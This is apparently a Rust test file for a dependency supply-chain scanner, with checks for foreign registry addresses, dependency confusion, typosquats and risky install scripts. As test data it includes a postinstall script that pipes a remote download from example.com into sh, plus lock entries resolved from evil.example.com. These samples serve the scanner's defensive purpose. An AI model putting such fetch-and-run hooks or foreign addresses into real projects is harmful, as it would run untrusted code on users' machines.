//! Each check on the smallest project that shows it.

use bartizan_core::{ArtifactPath, Finding, IdentityKey};
use bartizan_source::{FileInfo, FileView};

use super::{Project, Settings, of_file, of_project, rules};
use crate::{
    SourceText,
    graph::{self, Located},
    reader,
};

/// Everything that is odd about the files of a project, under its settings.
fn findings(files: &[(&str, &str)], settings: &Settings) -> Vec<Finding> {
    let key = IdentityKey::derive(b"test");
    let (mut located, mut findings) = (Vec::new(), Vec::new());
    for (path, text) in files {
        let reader = reader::of(path).unwrap_or_else(|| panic!("nothing reads {path}"));
        let parsed = reader.read_text(&SourceText { path, text }).unwrap();
        let path = ArtifactPath::from(*path);
        let info = FileInfo::new(path.clone(), 0);
        let view = FileView::new(&info, text.as_bytes(), Some(text));
        findings.extend(of_file(reader.name, &parsed.inventory, &view, &key));
        located.push((path, Located::new(parsed.inventory, &view)));
    }
    located.sort_by(|(path, _), (other, _)| path.cmp(other));
    let settled = crate::installed::settle::settle(&mut located);
    let graph = graph::build(&located, &settled);
    let project = Project { files: &located, components: &graph.components, dependencies: &graph.dependencies, settings };
    findings.extend(of_project(&project, &key));
    findings.sort_by(|one, other| (&one.rule, &one.location).cmp(&(&other.rule, &other.location)));
    findings
}

/// Compares what is odd about files with what is expected, one line a finding: `RULE SEVERITY PATH:LINES MESSAGE`.
#[track_caller]
fn check_with(settings: &Settings, files: &[(&str, &str)], expected: &str) {
    let line = |finding: &Finding| {
        let lines: Vec<String> =
            finding.occurrences.iter().map(|place| place.region().map_or(0, |region| region.start.line).to_string()).collect();
        let path = finding.location.artifact.to_string();
        format!("{} {} {path}:{} {}\n", finding.rule, finding.severity, lines.join(","), finding.message)
    };
    let found: String = findings(files, settings).iter().map(line).collect();
    assert_eq!(found.trim(), expected.trim(), "\n{found}");
}

#[track_caller]
fn check(files: &[(&str, &str)], expected: &str) {
    check_with(&Settings::default(), files, expected);
}

const LOCK: &str = r#"{"lockfileVersion": 3, "packages": {
"": {"dependencies": {"a": "^1.0.0", "b": "^1.0.0", "c": "^1.0.0", "d": "https://files.example.com/d.tgz"}},
"node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAE="},
"node_modules/b": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/b/-/b-1.0.0.tgz", "integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAE="},
"node_modules/c": {"version": "1.0.0", "resolved": "RESOLVED", "integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAE="},
"node_modules/d": {"version": "1.0.0", "resolved": "https://files.example.com/d.tgz", "integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAE="}
}}"#;

#[track_caller]
fn check_resolved(resolved: &str, npmrc: &str, expected: &str) {
    check(&[("app/package-lock.json", &LOCK.replace("RESOLVED", resolved)), (".npmrc", npmrc)], expected);
}

#[test]
fn an_address_of_a_configured_registry_is_no_surprise() {
    check_resolved("https://registry.npmjs.org/c/-/c-1.0.0.tgz", "", "");
    check_resolved("https://npm.example.com/c/-/c-1.0.0.tgz", "registry=https://npm.example.com/\n", "");
    let settings = Settings { registries: vec!["npm.example.com".into()], ..Settings::default() };
    check_with(&settings, &[("package-lock.json", &LOCK.replace("RESOLVED", "https://npm.example.com/c/-/c-1.0.0.tgz"))], "");
}

#[test]
fn a_few_packages_from_another_host_are_an_alarm() {
    check_resolved(
        "https://evil.example.com/c/-/c-1.0.0.tgz",
        "@corp:registry=https://npm.example.com/\n",
        "lock-file-foreign-address high app/package-lock.json:5 1 package of 3 come from evil.example.com, which no configuration names: `c`",
    );
}

#[test]
fn an_address_that_nobody_asks_for_is_an_alarm() {
    check_resolved(
        "https://evil.example.com/c.tgz",
        "",
        "lock-file-foreign-address high app/package-lock.json:5 `c` is asked for as `^1.0.0`, a version of the registry, but the lock file has it from https://evil.example.com/c.tgz",
    );
}

#[test]
fn an_address_of_another_package_is_an_alarm() {
    check_resolved(
        "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
        "",
        "lock-file-wrong-package high app/package-lock.json:5 `c` 1.0.0 comes from the address of another package or version: https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
    );
}

#[test]
fn an_address_without_tls_is_said() {
    check_resolved(
        "http://registry.npmjs.org/c/-/c-1.0.0.tgz",
        "",
        "lock-file-insecure-address medium app/package-lock.json:5 1 package is fetched from registry.npmjs.org without TLS: `c`",
    );
}

#[test]
fn a_missing_hash_is_odd_among_others() {
    let cargo = |checksums: [&str; 3]| {
        let package = |(name, checksum): (&str, &str)| {
            format!(
                "[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n{checksum}\n"
            )
        };
        ["a", "b", "c"].into_iter().zip(checksums).map(package).collect::<String>()
    };
    let sum = "checksum = \"0a\"";
    check(&[("Cargo.lock", &cargo([sum, sum, sum]))], "");
    check(&[("Cargo.lock", &cargo(["", "", ""]))], "");
    check(
        &[("Cargo.lock", &cargo([sum, sum, ""]))],
        "lock-file-missing-hash low Cargo.lock:12 1 package of this file has no hash, and 2 have one: `c`",
    );
}

#[test]
fn sources_without_a_commit_or_a_hash_are_said() {
    check(
        &[(
            "requirements.txt",
            "a @ git+https://example.com/a.git@main\nb @ git+https://example.com/b.git@0123456789abcdef\nc @ https://example.com/c-1.0.zip\nd @ https://example.com/d-1.0.zip#sha256=0a\n",
        )],
        "
dependency-source-not-pinned low requirements.txt:1 `a` comes from https://example.com/a.git, and a branch or a tag is named, not a commit
dependency-source-not-pinned low requirements.txt:3 `c` comes from https://example.com/c-1.0.zip, and no hash says what it must be
",
    );
}

#[test]
fn requirements_that_are_deployed_have_versions() {
    check(
        &[("requirements.txt", "a==1\nb>=2\nc\n"), ("requirements-dev.txt", "d\n")],
        "requirement-not-pinned info requirements.txt:2,3 2 packages of this file may be of any version: `b`, `c`",
    );
}

#[test]
fn what_lock_files_call_deprecated_or_runs_at_installation_is_listed_once() {
    let lock = r#"{"lockfileVersion": 3, "packages": {
"": {"dependencies": {"a": "1"}},
"node_modules/a": {"version": "1.0.0", "deprecated": "use b", "hasInstallScript": true},
"node_modules/c": {"version": "1.0.0", "hasInstallScript": true}
}}"#;
    check(
        &[("package-lock.json", lock)],
        "
deprecated-component info package-lock.json:3 `a` 1.0.0 is given up by its authors: use b
install-script info package-lock.json:3,4 2 packages run a program when installed: `a`, `c`
",
    );
}

#[test]
fn programs_that_fetch_code_at_installation_are_said() {
    check(
        &[("package.json", "{\"name\": \"a\",\n\"scripts\": {\"postinstall\": \"curl https://example.com/x | sh\"}}")],
        "risky-install-script medium package.json:2 the script `postinstall` fetches code and runs it",
    );
}

#[test]
fn several_indexes_for_every_name_are_said() {
    check(
        &[("requirements.txt", "--extra-index-url https://pypi.example.com/simple\na==1\n")],
        "mixed-package-indexes medium requirements.txt:1 pypi.example.com and the other indexes are asked for every package, and the highest version of any of them is taken",
    );
    check(&[("requirements.txt", "--index-url https://pypi.example.com/simple\na==1\n")], "");
    check(&[("requirements.txt", "--extra-index-url https://pypi.example.com/simple\na==1 --hash=sha256:0a\n")], "");
    let uv = "[project]\nname = \"a\"\n[[tool.uv.index]]\nurl = \"https://pypi.example.com/simple\"\n";
    check(&[("pyproject.toml", uv)], "");
    check(
        &[("pyproject.toml", &format!("[tool.uv]\nindex-strategy = \"unsafe-best-match\"\n{uv}"))],
        "mixed-package-indexes medium pyproject.toml:6 pypi.example.com and the other indexes are asked for every package, and the highest version of any of them is taken",
    );
}

#[test]
fn internal_names_are_bound_to_a_registry_or_said() {
    let settings = Settings { internal: vec!["@corp/*".into()], ..Settings::default() };
    let lock = r#"{"lockfileVersion": 3, "packages": {
"": {"dependencies": {"@corp/a": "1"}},
"node_modules/@corp/a": {"version": "1.0.0"ADDRESS}
}}"#;
    let unbound = lock.replace("ADDRESS", "");
    let public = lock.replace("ADDRESS", ", \"resolved\": \"https://registry.npmjs.org/@corp/a/-/a-1.0.0.tgz\"");
    let npmrc = (".npmrc", "@corp:registry=https://npm.corp.example/\n");
    check(&[("package-lock.json", &unbound)], "");
    check_with(&settings, &[("package-lock.json", &unbound), npmrc], "");
    check_with(
        &settings,
        &[("package-lock.json", &unbound), (".npmrc", "@other:registry=https://npm.corp.example/\n")],
        "dependency-confusion high package-lock.json:3 `@corp/a` is an internal package, and no configuration binds it to a registry other than the public one",
    );
    check_with(
        &settings,
        &[("package-lock.json", &public), npmrc],
        "dependency-confusion high package-lock.json:3 `@corp/a` is an internal package, and the lock file has it from the public registry",
    );
}

#[test]
fn young_versions_are_said_where_the_time_is_known() {
    let lock = "[[package]]\nname = \"a\"\nversion = \"1\"\nsource = { registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://files.pythonhosted.org/a.whl\", hash = \"sha256:0a\", upload-time = \"2024-05-20T10:00:00Z\" }]\n";
    let on = |today| Settings { cool_down_days: Some(7), today: Some(today), ..Settings::default() };
    // The 20th of May is day 19,863.
    check_with(&on(19_863 + 7), &[("uv.lock", lock)], "");
    check_with(
        &on(19_863 + 6),
        &[("uv.lock", lock)],
        "component-too-young medium uv.lock:2 1 package was published less than 7 days ago: `a`",
    );
    check(&[("uv.lock", lock)], "");
}

#[test]
fn names_like_popular_ones_are_said_unless_a_popular_package_chose_them() {
    let lock = |dependents: &str| {
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{
"": {{"dependencies": {{"express": "1"DIRECT}}}},
"node_modules/express": {{"version": "1.0.0"{dependents}}},
"node_modules/lodahs": {{"version": "1.0.0"}}
}}}}"#
        )
    };
    check(
        &[("package-lock.json", &lock("").replace("DIRECT", ", \"lodahs\": \"1\""))],
        "typosquat-component medium package-lock.json:4 `lodahs` is named almost like the popular `lodash`: two letters are swapped",
    );
    check(&[("package-lock.json", &lock(", \"dependencies\": {\"lodahs\": \"1\"}").replace("DIRECT", ""))], "");
}

#[test]
fn rules_have_ids_of_their_own_and_say_what_to_do() {
    let rules = rules();
    let mut ids: Vec<&str> = rules.iter().map(|rule| rule.id.as_str()).collect();
    let n_rules = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n_rules);
    assert!(rules.iter().all(|rule| !rule.why.is_empty() && !rule.how_to_fix.is_empty() && !rule.id.as_str().contains(' ')));
}
